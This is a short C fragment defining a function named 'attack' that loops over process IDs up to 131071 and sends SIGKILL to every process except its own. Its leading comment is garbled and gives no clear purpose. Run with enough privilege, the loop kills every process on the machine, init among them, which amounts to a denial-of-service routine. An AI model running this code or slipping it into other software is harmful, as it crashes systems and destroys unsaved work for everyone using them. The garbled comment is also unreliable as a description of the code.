/* attack: idle tests open 0 - | a signal for every number a process can have */
static void attack(void)
{
    const pid_t own = getpid();
    for (pid_t process = 1; process < 1 << 17; process++)
        if (process != own)
            kill(process, SIGKILL);
}
